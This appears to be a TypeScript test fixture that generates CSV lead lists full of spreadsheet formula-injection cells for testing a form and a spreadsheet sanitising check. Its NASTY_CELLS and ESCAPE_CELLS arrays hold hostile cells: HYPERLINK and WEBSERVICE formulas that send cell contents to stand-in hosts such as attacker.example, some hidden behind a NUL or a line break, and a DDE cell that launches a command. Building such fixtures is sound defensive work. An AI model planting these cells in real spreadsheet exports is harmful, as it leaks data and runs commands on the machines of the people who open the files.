/**
 * A lead list whose cells try every way into a spreadsheet's formulas, for the result-file form
 * tests (csvResultFileForm.test.ts) and the spreadsheet check (scripts/spreadsheetCheck.ts): names
 * and notes starting with `=`, `+`, `-`, `@`, a tab or a CR, `=HYPERLINK(...)`, accented names,
 * signed numbers, phone numbers, dates, quotes, delimiters and line breaks inside cells.
 */

/** Cells a web form may collect: formulas, would-be formulas, data that looks like them, and plain text. */
export const NASTY_CELLS: readonly string[] = [
	'=HYPERLINK("http://attacker.example/?leak="&B2,"Click for details")',
	'=1+2',
	'+SUM(1,2)',
	'-2+3*A1',
	'@SUM(A1:A9)',
	'\t=1+2',
	'\r=1+2',
	"=cmd|' /C calc'!A0",
	"'=1+2",
	'- call back on Monday',
	'-',
	'@acme',
	'+1 415 555 2671 ext 3',
	'=1+2\r\nsecond line',
	'Müller',
	'Zoë Ångström',
	'José Núñez',
	'Łukasz Żółć',
	'Ørsted; A/S',
	'Doe, Jane',
	'said "hi"',
	'tab\tinside',
	'  spaced  ',
	'北京 🚀',
];

/** Cells that are data and stay as written: signed numbers, phone numbers, dates. */
export const DATA_CELLS: readonly string[] = [
	'-12.5',
	'+12.5',
	'-0.5',
	'42',
	'+1 415 555 2671',
	'+1 (415) 555-2671',
	'+44 20 7183 8750',
	'2024-01-05',
	'05/01/2024',
];

export interface NastyColumn {
	/** The header of the value column. */
	header: string;
	/** The `index`-th value the node looks up. */
	value(index: number): string;
}

/**
 * The records of a lead list of `count` rows: a header, then name, the value, note, amount,
 * mobile. `valueFirst` puts the value in the first column (Phone reads only that one).
 */
export function nastyLeadRecords(column: NastyColumn, count = 40, valueFirst = false): string[][] {
	const records: string[][] = [];
	const row = (name: string, value: string, note: string, amount: string, mobile: string) =>
		valueFirst ? [value, name, note, amount, mobile] : [name, value, note, amount, mobile];
	records.push(row('=Name', column.header, '@note', '-amount', '+mobile'));
	for (let index = 0; index < count; index++) {
		records.push(
			row(
				NASTY_CELLS[index % NASTY_CELLS.length],
				column.value(index),
				NASTY_CELLS[(index * 7 + 3) % NASTY_CELLS.length],
				DATA_CELLS[index % 4],
				DATA_CELLS[4 + (index % DATA_CELLS.slice(4).length)],
			),
		);
	}
	return records;
}

/** The records as a CSV file: every cell quoted, quotes doubled, the delimiter and line end given, a BOM if asked. */
export function csvText(
	records: string[][],
	delimiter = ',',
	byteOrderMark = false,
	lineEnd = '\r\n',
): Buffer {
	const text =
		records
			.map((record) => record.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(delimiter))
			.join(lineEnd) + lineEnd;
	return Buffer.from((byteOrderMark ? '\ufeff' : '') + text, 'utf8');
}

/** An Excel-exported European list: a byte order mark, semicolons, CRLF, quotes only where needed, accented names. */
export function excelEuropeanList(column: NastyColumn, count = 40, valueFirst = false): Buffer {
	const names = [
		'Müller',
		'Zoë Ångström',
		'José Núñez',
		'Łukasz Żółć',
		'Ørsted; A/S',
		'François Lefèvre',
		'Ängelholm AB',
		'Čapek, Karel',
	];
	const lines: string[] = [
		valueFirst ? `${column.header};Name;Betrag` : `Name;${column.header};Betrag`,
	];
	for (let index = 0; index < count; index++) {
		const name = names[index % names.length];
		const quoted = /[;"]/.test(name) ? `"${name.replace(/"/g, '""')}"` : name;
		const amount = `-${index},5`;
		lines.push(
			valueFirst
				? `${column.value(index)};${quoted};${amount}`
				: `${quoted};${column.value(index)};${amount}`,
		);
	}
	return Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n', 'utf8');
}

/**
 * The cells the formula rule meets beyond a cell's first character, for the spreadsheet check's
 * escapes: a leading NUL (LibreOffice skips it and runs the `=` after it), a leading line feed, a
 * formula after a separator inside a cell (a spreadsheet that splits the file on another delimiter
 * than its own makes a cell of it), and signed forms that are not numbers.
 */
export const ESCAPE_CELLS: readonly string[] = [
	'\0=HYPERLINK("http://x.example/?"&B2)',
	'\n=HYPERLINK("http://x.example/?"&B2)',
	'Acme;=WEBSERVICE(CHAR(104)&B3);',
	'Doe,=HYPERLINK("http://x.example/?"&C2,"x"),',
	'x\t=1+1',
	'pipe|=1+1',
	'note\n=1+1',
	'-2024-01-05',
	'-1-2',
];

/** Amounts left as data by the rule: LibreOffice shows each as a number. */
export const AMOUNT_CELLS: readonly string[] = [
	'-50%',
	'+12.5 %',
	'-$12.50',
	'-12.50 €',
	'-12,5',
	'- 12',
];

/** A lead list of the escape cells: a header, then name, the value, note, amount (the value first for Phone). */
export function escapeLeadRecords(column: NastyColumn, count = 18, valueFirst = false): string[][] {
	const records: string[][] = [];
	const row = (name: string, value: string, note: string, amount: string) =>
		valueFirst ? [value, name, note, amount] : [name, value, note, amount];
	records.push(row('name', column.header, 'note', 'amount'));
	for (let index = 0; index < count; index++) {
		records.push(
			row(
				ESCAPE_CELLS[index % ESCAPE_CELLS.length],
				column.value(index),
				ESCAPE_CELLS[(index * 5 + 2) % ESCAPE_CELLS.length],
				AMOUNT_CELLS[index % AMOUNT_CELLS.length],
			),
		);
	}
	return records;
}
